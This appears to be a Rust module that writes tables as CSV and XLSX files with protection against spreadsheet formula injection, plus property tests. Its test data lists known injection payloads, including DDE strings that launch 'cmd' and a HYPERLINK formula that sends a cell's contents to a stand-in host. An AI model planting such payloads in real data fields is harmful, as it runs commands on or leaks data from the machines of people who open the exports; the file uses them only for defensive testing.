//! Figures and records as files that a spreadsheet opens without harm.

use kernel::Problem;
use rust_xlsxwriter::{Format, Workbook};
use web::FileKind;

/// One cell.
#[derive(Debug, Clone, PartialEq)]
pub(crate) enum Cell {
    Text(String),
    Number(f64),
}

impl Cell {
    pub fn text(text: &str) -> Self {
        Self::Text(text.into())
    }
}

/// A table with a header.
pub(crate) struct Sheet {
    header: Vec<&'static str>,
    rows: Vec<Vec<Cell>>,
}

/// What a spreadsheet takes for the beginning of a formula (OWASP ASVS 5.0 1.2.10), full-width forms included.
const FORMULA_SIGNS: [char; 12] =
    ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠'];

impl Sheet {
    pub fn new(header: &[&'static str]) -> Self {
        Self { header: header.to_vec(), rows: Vec::new() }
    }

    pub fn push(&mut self, row: Vec<Cell>) {
        self.rows.push(row);
    }

    /// Another kind of file is no table.
    pub fn file(&self, format: FileKind) -> Result<Vec<u8>, Problem> {
        match format {
            FileKind::Csv => self.csv(),
            FileKind::Xlsx => self.xlsx(),
            FileKind::Docx => Err(Problem::internal("a table is no document")),
        }
    }

    /// RFC 4180 with a byte order mark, by which Excel knows UTF-8.
    fn csv(&self) -> Result<Vec<u8>, Problem> {
        let mut writer = csv::WriterBuilder::new()
            .terminator(csv::Terminator::CRLF)
            // A text in quotes stays one cell also where the program takes another sign for the separator.
            .quote_style(csv::QuoteStyle::NonNumeric)
            .from_writer(vec![0xEF, 0xBB, 0xBF]);
        writer.write_record(&self.header).map_err(Problem::internal)?;
        for row in &self.rows {
            let cells = row.iter().map(|cell| match cell {
                Cell::Text(text) => defused(text),
                Cell::Number(number) => number.to_string(),
            });
            writer.write_record(cells).map_err(Problem::internal)?;
        }
        writer.into_inner().map_err(Problem::internal)
    }

    /// Texts are written as texts, so that no cell is a formula.
    fn xlsx(&self) -> Result<Vec<u8>, Problem> {
        let mut book = Workbook::new();
        let sheet = book.add_worksheet();
        let bold = Format::new().set_bold();
        for (column, title) in (0..).zip(&self.header) {
            sheet.write_string_with_format(0, column, *title, &bold).map_err(Problem::internal)?;
        }
        for (line, row) in (1..).zip(&self.rows) {
            for (column, cell) in (0..).zip(row) {
                match cell {
                    Cell::Text(text) => sheet.write_string(line, column, text),
                    Cell::Number(number) => sheet.write_number(line, column, *number),
                }
                .map_err(Problem::internal)?;
            }
        }
        book.save_to_buffer().map_err(Problem::internal)
    }
}

/// A text that no spreadsheet computes. Some programs skip blanks before they look for the sign.
fn defused(text: &str) -> String {
    let computes = [text, text.trim_start()].iter().any(|text| text.starts_with(FORMULA_SIGNS));
    if computes { format!("'{text}") } else { text.to_string() }
}

#[cfg(test)]
mod tests {
    use super::*;
    use calamine::{Data, Reader, Xlsx};
    use proptest::prelude::*;
    use std::io::{Cursor, Read};

    fn sheet(texts: &[String]) -> Sheet {
        let mut sheet = Sheet::new(&["甲", "乙"]);
        for text in texts {
            sheet.push(vec![Cell::text(text), Cell::Number(-2.5)]);
        }
        sheet
    }

    #[test]
    fn d19_a_cell_is_never_a_formula() {
        for sign in FORMULA_SIGNS {
            // What begins with blanks alone computes nothing.
            let blanks = if sign.is_whitespace() { &[""][..] } else { &["", " ", "\u{3000}"] };
            for blank in blanks {
                assert!(defused(&format!("{blank}{sign}1+1")).starts_with('\''), "{sign:?}");
            }
        }
        assert_eq!(defused("办结率"), "办结率");
        let csv = String::from_utf8(sheet(&["=1+1,\"x\"".into()]).csv().unwrap()).unwrap();
        assert_eq!(csv, "\u{feff}\"甲\",\"乙\"\r\n\"'=1+1,\"\"x\"\"\",-2.5\r\n");
    }

    /// What attackers write into a field that somebody will export, and texts of all kinds; as the door of texts lets them in.
    fn texts() -> impl Strategy<Value = Vec<String>> {
        let known = prop::sample::select(vec![
            "=cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+1",
            "-2+3",
            "\t=1+1",
            "\n=1+1",
            "＝1+1",
            "=HYPERLINK(\"http://x/\"&A1,\"看\")",
            "'=1",
            "a;=1+1",
            "a\t=1+1",
            "\";=1+1;\"",
            "_x003D_1+1",
            "110105194912310021",
            "<f>1</f>",
            "{=1}",
        ]);
        let signed = ("[ \u{3000}]{0,2}[=+\\-@＝＋－＠\t\n\"',;|]{1,3}", "\\PC{0,20}");
        let any = prop_oneof![
            known.prop_map(String::from),
            signed.prop_map(|(sign, rest)| sign + &rest),
            any::<String>(),
        ];
        let tidied = any.prop_filter_map("refused at the door", |text| {
            kernel::text::tidy(&text).ok().map(|text| text.into_owned())
        });
        prop::collection::vec(tidied, 1..12)
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(300))]

        /// D-19: read back by another program, a CSV holds every text as it was, but for the sign that defuses it; no cell begins
        /// like a formula, whichever sign the program takes for the separator.
        #[test]
        fn d19_a_csv_gives_every_text_back_and_no_formula(texts in texts()) {
            let csv = sheet(&texts).csv().unwrap();
            let text = csv.strip_prefix(&[0xEF, 0xBB, 0xBF]).unwrap();
            let mut reader = csv::Reader::from_reader(text);
            let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
            prop_assert_eq!(rows.len(), texts.len());
            for (row, text) in rows.iter().zip(&texts) {
                prop_assert_eq!((row.len(), &row[1]), (2, "-2.5"));
                let cell = &row[0];
                prop_assert!(cell == text || cell == format!("'{text}"), "{:?} came back as {:?}", text, cell);
                prop_assert!(!cell.trim_start().starts_with(FORMULA_SIGNS), "{:?}", cell);
            }
            for separator in [b';', b'\t', b'|'] {
                let mut reader = csv::ReaderBuilder::new();
                let mut reader = reader.delimiter(separator).flexible(true).from_reader(text);
                for row in reader.records().map(Result::unwrap) {
                    for cell in row.iter().filter(|cell| cell.parse::<f64>().is_err()) {
                        prop_assert!(!cell.trim_start().starts_with(FORMULA_SIGNS), "{:?}", cell);
                    }
                }
            }
        }

        /// D-19: a workbook holds every text as it was, as a text, numbers as numbers, and no formula.
        #[test]
        fn d19_a_workbook_gives_every_text_back_and_no_formula(texts in texts()) {
            let bytes = sheet(&texts).xlsx().unwrap();
            let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes.as_slice())).unwrap();
            let name = book.sheet_names()[0].clone();
            let range = book.worksheet_range(&name).unwrap();
            for (n, text) in texts.iter().enumerate() {
                let row = n as u32 + 1;
                let cell = range.get_value((row, 0)).cloned().unwrap_or(Data::Empty);
                let same = match &cell {
                    Data::String(found) => found == text,
                    Data::Empty => text.is_empty(),
                    _ => false,
                };
                prop_assert!(same, "{:?} came back as {:?}", text, cell);
                prop_assert_eq!(range.get_value((row, 1)), Some(&Data::Float(-2.5)));
            }
            prop_assert!(book.worksheet_formula(&name).unwrap().cells().all(|(_, _, formula)| formula.is_empty()));
            let mut archive = zip::ZipArchive::new(Cursor::new(bytes.as_slice())).unwrap();
            let mut xml = String::new();
            archive.by_name("xl/worksheets/sheet1.xml").unwrap().read_to_string(&mut xml).unwrap();
            prop_assert!(!xml.contains("<f>") && !xml.contains("<f "));
        }
    }
}
